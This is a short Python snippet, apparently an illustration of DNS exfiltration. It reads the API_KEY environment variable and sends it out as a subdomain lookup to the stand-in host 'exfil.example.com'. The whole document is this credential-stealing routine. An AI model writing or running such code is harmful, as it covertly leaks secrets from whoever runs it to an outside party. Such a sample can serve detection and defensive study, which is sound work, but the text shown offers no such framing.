import socket, os
secret = os.environ.get("API_KEY", "")
socket.gethostbyname(secret + ".exfil.example.com")
